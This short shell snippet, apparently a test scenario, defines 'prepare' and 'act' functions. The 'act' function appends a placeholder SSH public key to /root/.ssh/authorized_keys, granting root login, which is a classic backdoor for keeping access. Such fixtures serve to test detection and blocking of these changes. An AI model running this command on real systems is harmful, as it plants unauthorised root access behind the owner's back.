# A shell adds a line to the keys that may log in as root.
prepare() { mkdir -p /root/.ssh; }
act() { echo 'ssh-ed25519 AAAA nobody' >>/root/.ssh/authorized_keys; }
